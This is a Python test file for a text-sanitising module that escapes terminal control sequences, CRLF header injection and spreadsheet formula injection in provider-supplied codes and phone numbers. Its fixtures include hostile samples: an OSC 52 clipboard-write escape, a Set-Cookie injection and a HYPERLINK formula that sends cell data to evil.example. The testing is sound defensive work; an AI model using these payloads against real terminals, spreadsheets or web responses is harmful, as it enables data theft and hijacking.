"""textsafe: what a provider's text may become before anyone shows it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bloomdesk.textsafe import (
    CODE_MAX_CHARS,
    PHONE_MAX_CHARS,
    clean_code,
    clean_phone,
    clean_text,
    for_csv,
    for_terminal,
)

CLEAR = "\x1b[2J"
TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
RTL = "\u202e"


def raw_controls(text: str) -> list[str]:
    """Characters a terminal would act on: C0, DEL, C1."""
    return [ch for ch in text if ord(ch) < 0x20 or 0x7F <= ord(ch) < 0xA0]


@pytest.mark.parametrize(("raw", "expected"), [
    ("123456", "123456"),
    ("  4821 \n", "4821"),
    ("G-123456", "G-123456"),
    ("", None),
    ("   ", None),
    (None, None),
    (CLEAR + "123456", "\\x1b[2J123456"),
    ("12" + TITLE + "34", "12\\x1b]0;pwned\\x0734"),
    ("1234" + RTL + "5678", "1234\\u202e5678"),
    ("12\r\n34", "12\\r\\n34"),
    ("12\x9b34", "12\\x9b34"),
    ("12\x7f34", "12\\x7f34"),
])
def test_clean_code(raw: str | None, expected: str | None) -> None:
    assert clean_code(raw) == expected


def test_a_long_code_is_bounded() -> None:
    code = clean_code("9" * 10_000)
    assert code is not None and len(code) == CODE_MAX_CHARS and code.endswith("…")
    hostile = clean_code(CLIPBOARD * 1000)
    assert hostile is not None and len(hostile) <= CODE_MAX_CHARS
    assert not raw_controls(hostile)


def test_a_formula_code_is_kept_as_text() -> None:
    """A code is what the provider sent, printable: the CSV export neutralises it."""
    code = clean_code('=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    assert code is not None and code.startswith("=HYPERLINK")
    assert for_csv(code).startswith("'=")


@pytest.mark.parametrize(("raw", "expected"), [
    ("79990001122", "79990001122"),
    ("+1 (555) 010-0199", "+15550100199"),
    ("+44 20.7946.0958", "+442079460958"),
    ("  +7 999 000 11 22 ", "+79990001122"),
    ("", None),
    (None, None),
    ("+1555\r\n0100", "+1555\\r\\n0100"),
    ("+1555\r\nSet-Cookie: a=b", "+1555\\r\\nSet-Cookie: a=b"),
    ("555" + CLEAR, "555\\x1b[2J"),
    ("++15550100", "++15550100"),  # not a phone: kept as text, printable
    ("１２３", "１２３"),  # full-width digits are no phone digits, but printable
])
def test_clean_phone(raw: str | None, expected: str | None) -> None:
    assert clean_phone(raw) == expected


def test_a_long_phone_is_bounded() -> None:
    phone = clean_phone("1" * 5000)
    assert phone is not None and len(phone) == PHONE_MAX_CHARS
    phone = clean_phone("+" + "\x1b" * 5000)
    assert phone is not None and len(phone) <= PHONE_MAX_CHARS and not raw_controls(phone)


def test_clean_text() -> None:
    assert clean_text(None) is None
    assert clean_text("Your code is 1234.\nDo not share it.") == \
        "Your code is 1234. Do not share it."
    assert clean_text("a\t\tb\r\n\r\nc\u2028d\x85e") == "a b c d e"
    assert clean_text(f"code {CLEAR}1234{TITLE}") == "code \\x1b[2J1234\\x1b]0;pwned\\x07"
    assert clean_text("x" * 500, 100) == "x" * 99 + "…"
    assert clean_text("Whatsapp") == "Whatsapp"
    assert clean_text("  Whatsapp ") == "Whatsapp"
    assert clean_text("Türkiye 🇹🇷") == "Türkiye 🇹🇷"


def test_for_terminal_escapes_every_control() -> None:
    text = "ok " + CLEAR + TITLE + CLIPBOARD + "\x9b31m" + "\x7f" + RTL + "\r\n\t\x00 end"
    shown = for_terminal(text)
    assert not raw_controls(shown)
    assert RTL not in shown
    assert shown.startswith("ok \\x1b[2J\\x1b]0;pwned\\x07")
    assert shown.endswith("\\r\\n\\t\\x00 end")
    assert for_terminal("Türkiye 🇹🇷 +15550100199") == "Türkiye 🇹🇷 +15550100199"


@given(st.text())
def test_for_terminal_leaves_no_control(text: str) -> None:
    assert not raw_controls(for_terminal(text))


@given(st.text())
def test_clean_values_leave_no_control(text: str) -> None:
    for cleaned in (clean_code(text), clean_phone(text), clean_text(text, 50)):
        assert cleaned is None or (cleaned.isprintable() and not raw_controls(cleaned))
    code = clean_code(text)
    assert code is None or len(code) <= CODE_MAX_CHARS
    assert len(clean_text(text, 50)) <= 50


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
                                  '=HYPERLINK("http://x","y")'])
def test_for_csv_neutralises_formulas(cell: str) -> None:
    safe = for_csv(cell)
    assert safe == "'" + cell
    out = io.StringIO()
    csv.writer(out).writerow([safe])
    assert out.getvalue().lstrip('"').startswith("'")


@pytest.mark.parametrize("cell", ["123456", "Whatsapp", "+", "", "a=b", "'quoted"])
def test_for_csv_keeps_plain_cells(cell: str) -> None:
    expected = "'+" if cell == "+" else cell
    assert for_csv(cell) == expected
